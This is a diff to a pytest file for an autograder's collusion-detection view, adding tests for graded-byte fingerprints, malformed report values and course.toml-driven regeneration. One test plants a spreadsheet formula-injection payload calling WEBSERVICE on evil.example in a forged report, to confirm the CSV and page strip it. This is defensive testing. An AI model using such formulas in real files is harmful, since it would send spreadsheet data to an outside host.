@@ -2,19 +2,24 @@
 predictions (right for the classmate's parameters, wrong for their own) is found, in the right direction; an honest
 class that shares a misconception is not flagged; produce functions copied with renamed variables, other comments,
 formatting and numbers are found, and a cell left as the release made it is not evidence; the page passes axe in
-Chromium; on the course service the view is staff-only (a student's token gets 403) and has a CSV."""
+Chromium; on the course service the view is staff-only (a student's token gets 403), has a CSV and is made again
+when course.toml changes which hand-in counts; only notebooks whose bytes were graded are read; a report showing a
+number of 401 digits or a formula after a number breaks nothing and shows only the number."""
 from __future__ import annotations
 
 import csv
+import hashlib
 import io
 import json
 import math
+import shutil
 import sys
 from pathlib import Path
 
 import nbformat
 import pytest
 
+from autograder import wire
 from autograder.authoring.collusion import functions_of
 from autograder.grading.plan import draw_point
 from autograder.keyfile import load_key
@@ -111,7 +116,7 @@ def test_copied_predictions_are_found_with_whose_wrong_answer_matched_whose_poin
     assert view["schema"] == "autograd-lab/collusion" and view["students"] == len(what) == 14
     assert view["pairs_compared"] == 14 * 13
     assert view["notes"][0] == ("1 report(s) that do not count (not gradable, superseded, or waiting for staff to "
-                                "choose among a student's submissions) were not compared.")
+                                "choose among a student's submissions) were not compared: wes.")
     flagged = [(p["student"], p["source"]) for p in view["prediction_pairs"] if p["evidence"] == "unlikely by chance"]
     assert flagged == [("zed", "src")]   # zed's wrong answers are right at src's point; src's are right at their own
     zed = next(p for p in view["prediction_pairs"] if p["student"] == "zed" and p["source"] == "src")
@@ -178,6 +183,64 @@ def test_the_collusion_command_without_the_notebooks_says_produce_cells_were_not
     assert p.returncode == 2 and "no key at" in p.stderr
 
 
+def test_only_the_notebooks_whose_bytes_were_graded_are_read_and_the_others_are_named(graded, released, tmp_path):
+    """quin's notebook was changed after grading (a line added) and uma's is not at hand: neither is read, and the
+    view names both; the pair pat and quin, found from the graded bytes, is then not shown."""
+    what, out, subs = graded
+    record = json.loads((out / "graded-bytes.json").read_text())
+    assert record["submissions"]["quin.ipynb"]["sha256"] == hashlib.sha256((subs / "quin.ipynb").read_bytes()).hexdigest()
+    folder = tmp_path / "subs"
+    shutil.copytree(subs, folder)
+    nb = nbformat.read(folder / "quin.ipynb", as_version=4)
+    nb.cells.append(nbformat.v4.new_code_cell("# written after the hand-in"))
+    nbformat.write(nb, folder / "quin.ipynb")
+    (folder / "uma.ipynb").unlink()
+    copy = tmp_path / "out"
+    shutil.copytree(out, copy)
+    p = run_cli("collusion", str(copy), "--key", str(released[1]), "--submissions", str(folder))
+    assert p.returncode == 0, p.stderr
+    view = json.loads((copy / "collusion.json").read_text())
+    assert view["cells_read"] == 12 and view["cell_pairs"] == []
+    assert (f"1 notebook(s) in {folder} are not the bytes their report was graded from (changed since, or another file "
+            f"of that name), and were not compared: quin.ipynb.") in view["notes"]
+    assert ("2 counted submission(s) had no notebook at hand (or none whose bytes were graded), so their produce cells "
+            "were not compared: quin.ipynb, uma.ipynb.") in view["notes"]
+    (copy / "graded-bytes.json").unlink()   # a batch graded before it was written: the fingerprint says it
+    p = run_cli("collusion", str(copy), "--key", str(released[1]), "--submissions", str(subs))
+    assert p.returncode == 0, p.stderr
+    view = json.loads((copy / "collusion.json").read_text())
+    assert view["cells_read"] == 14 and [tuple(c["students"]) for c in view["cell_pairs"]] == [("pat", "quin")]
+
+
+def test_a_report_showing_a_huge_number_or_a_formula_after_a_number_breaks_nothing(graded, released, key, tmp_path):
+    """zed's report edited as a forged commit once made it: one wrong prediction shown as a class name of 401 digits
+    (float() of it overflows), one as src's number followed by a spreadsheet formula as a comment. `autograder
+    collusion` still writes the view, counts the one it cannot read, and shows the other as the number only."""
+    what, out, _ = graded
+    copy = tmp_path / "out"
+    shutil.copytree(out / "reports", copy / "reports")
+    path = copy / "reports" / "zed.json"
+    report = json.loads(path.read_text())
+    x = _point(key, "src")["x0"]
+    for o in report["outcomes"]:
+        if o["check_id"] == "3.predict.grad":
+            o["observed"] = "1" + "0" * 400
+        if o["check_id"] == "1.predict.grad":
+            o["observed"] = f'{2 * x!r} #;=WEBSERVICE("http://evil.example/"&A1)'
+    path.write_text(json.dumps(report))
+    p = run_cli("collusion", str(copy), "--key", str(released[1]))
+    assert p.returncode == 0, p.stderr
+    view = json.loads((copy / "collusion.json").read_text())
+    assert ("1 wrong prediction(s) were shown in a form this view does not read (or cannot compare), and were not "
+            "compared.") in view["notes"]
+    zed = next(q for q in view["prediction_pairs"] if (q["student"], q["source"]) == ("zed", "src"))
+    assert [m["value"] for m in zed["matches"] if m["check_id"] == "1.predict.grad"] == [repr(2 * x)]
+    assert "3.predict.grad" not in {m["check_id"] for m in zed["matches"]} and zed["evidence"] == "unlikely by chance"
+    sheet, page = (copy / "collusion.csv").read_text(), (copy / "collusion.html").read_text()
+    assert "WEBSERVICE" not in sheet + page and f"1.predict.grad: {2 * x!r} = " in sheet
+    assert sheet.splitlines()[0].startswith('"kind","student","other"')   # every cell quoted
+
+
 def test_the_collusion_page_passes_axe_and_shows_the_pairs(graded, browser):
     from selenium.webdriver.common.by import By
 
@@ -187,6 +250,8 @@ def test_the_collusion_page_passes_axe_and_shows_the_pairs(graded, browser):
     assert violations(browser, out / "collusion.html", AXE.read_text()) == []
     browser.get((out / "collusion.html").as_uri())
     assert browser.find_element(By.ID, "evidence-only").text.startswith("Evidence only: nothing here changes a score.")
+    assert browser.find_element(By.ID, "not-meant").text.startswith("What a match does not mean: it says that A's "
+                                                                     "wrong answers are right at B's point.")
     row = browser.find_element(By.CSS_SELECTOR, "tr.agl-pair[data-student='zed'][data-source='src']")
     assert "unlikely by chance" in row.text and "1.predict.grad" in row.text
     assert "pat and quin" in browser.find_element(By.ID, "cell-pairs").text
@@ -206,6 +271,17 @@ def test_on_the_service_the_collusion_view_is_staff_only_with_a_csv(course, rele
         status, _ = call(f"{api}/assignments/{ASSIGNMENT}/handins", course.tokens[student], "POST",
                          raw=nbformat.writes(nb).encode())
         assert status == 201
+    long_name = {"t": "class", "name": "1" + "0" * 400}   # a prediction no kernel sends (the probe clips at 200)
+    results = "".join(json.dumps(r) + "\n" for r in [
+        {"k": "hello", "schema": wire.SCHEMA, "v": wire.VERSION, "torch": "2.13.0", "cells": 2, "cuda": False},
+        {"k": "cell", "i": 0, "status": "ok"}, {"k": "cell", "i": 1, "status": "ok"},
+        {"k": "name", "name": "p1_returns", "value": {"t": "none"}}, {"k": "name", "name": "p1_grad", "value": long_name},
+        {"k": "done"}])
+    status, answer = call(f"{api}/predictions", course.tokens["cat"], "POST", {
+        "assignment": ASSIGNMENT, "exercise": "1", "student": "cat", "cells": ["p1_returns = None\np1_grad = 1",
+        'lab.check("1")'], "labels": ["", ""], "results": results})
+    assert status == 200 and answer["missing"] == ["p1_grad"] and answer["commit"] is None   # refused: not committed
+    assert answer["kind"] == "incomplete"
     r = run_cli("grade", "--service", course.svc.url, "--assignment", ASSIGNMENT, "--key", str(course.key_path),
                 "--out", str(tmp_path / "out"), env={"AUTOGRAD_LAB_TOKEN": course.staff}, timeout=600)
     assert r.returncode == 0, r.stderr
@@ -240,6 +316,62 @@ def test_on_the_service_the_collusion_view_is_staff_only_with_a_csv(course, rele
     assert "unlikely by chance" in row.text
     assert browser.find_element(By.ID, "evidence-only").text.startswith("Evidence only")
     browser.delete_all_cookies()
+
+
+def test_on_the_service_a_course_toml_change_makes_the_collusion_view_again(released, key, tmp_path):
+    """ben hands in amy's numbers on time, then his own late; under "last-on-time" the first counts and is graded, and
+    the view flags (ben, amy). course.toml then says the last hand-in counts: ben's that counts is not graded yet, so
+    the view, made again though no hand-in or report changed, compares amy and cat only."""
+    import datetime as dt
+    import time
+
+    from autograder.service.commands import publish
+    from servers.course import Service
+
+    answered, module = _scenarios()
+    config = tmp_path / "course.toml"
+    head = f'[assignments."{ASSIGNMENT}"]\n'
+    config.write_text(head + f"due = {(dt.datetime.now(dt.timezone.utc) + dt.timedelta(days=7)).isoformat()}\n")
+    svc = Service(tmp_path / "service", args=("--config", str(config)))
+    try:
+        staff = svc.add("prof", staff=True)["prof"]
+        tokens = svc.add("amy", "ben", "cat")
+        publish(released[1], svc.url, tmp_path / "student", "token", released[0] / NB, token=staff)
+        api = svc.url + "/api/v1"
+
+        def hand_in(student: str, point_of: str) -> dict:
+            nb = answered(released[0] / NB, student, {**module.predictions(_point(key, point_of)), **module.CODE})
+            status, receipt = call(f"{api}/assignments/{ASSIGNMENT}/handins", tokens[student], "POST",
+                                   raw=nbformat.writes(nb).encode())
+            assert status == 201
+            return receipt
+
+        for student, point_of in (("amy", "amy"), ("cat", "cat")):
+            hand_in(student, point_of)
+        first = hand_in("ben", "amy")
+        due = dt.datetime.fromisoformat(first["received"]).replace(microsecond=0) + dt.timedelta(seconds=1)
+        config.write_text(head + f"due = {due.isoformat()}\n")
+        while dt.datetime.now(dt.timezone.utc) < due + dt.timedelta(seconds=0.3):
+            time.sleep(0.1)
+        assert hand_in("ben", "ben")["counts"] is False   # late: his first, on time, counts
+        r = run_cli("grade", "--service", svc.url, "--assignment", ASSIGNMENT, "--key", str(released[1]),
+                    "--out", str(tmp_path / "out"), env={"AUTOGRAD_LAB_TOKEN": staff}, timeout=600)
+        assert r.returncode == 0, r.stderr
+        view = f"{api}/assignments/{ASSIGNMENT}/collusion?format=csv"
+
+        def flagged() -> list[tuple[str, str]]:
+            import urllib.request
+
+            req = urllib.request.Request(view, headers={"Authorization": f"token {staff}"})
+            with urllib.request.urlopen(req, timeout=60) as got:
+                rows = list(csv.DictReader(io.StringIO(got.read().decode())))
+            return [(r["student"], r["other"]) for r in rows if r["evidence"] == "unlikely by chance"]
+
+        assert flagged() == [("ben", "amy")]
+        config.write_text(head + f'due = {due.isoformat()}\ncounts = "last"\n')
+        assert flagged() == []   # ben's hand-in that counts now (his own numbers) is not graded: not compared
+    finally:
+        svc.stop()
 
 
 def _notebook(cells: dict[str, str]) -> bytes:
